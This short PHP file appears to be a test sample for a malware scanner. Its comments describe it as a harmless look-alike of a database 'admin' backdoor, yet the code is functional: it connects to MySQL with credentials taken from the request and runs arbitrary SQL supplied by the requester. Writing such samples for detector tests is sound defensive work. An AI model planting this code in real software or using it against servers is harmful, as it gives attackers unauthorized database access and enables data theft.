<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A database "admin" backdoor: credentials and SQL come from the request.
$link = mysqli_connect($_POST['host'], $_POST['user'], $_POST['pass']);
$sql = $_POST['q'];
$res = mysqli_query($link, $sql);
while ($row = mysqli_fetch_row($res)) { echo htmlspecialchars(implode(', ', $row)), "<br>"; }
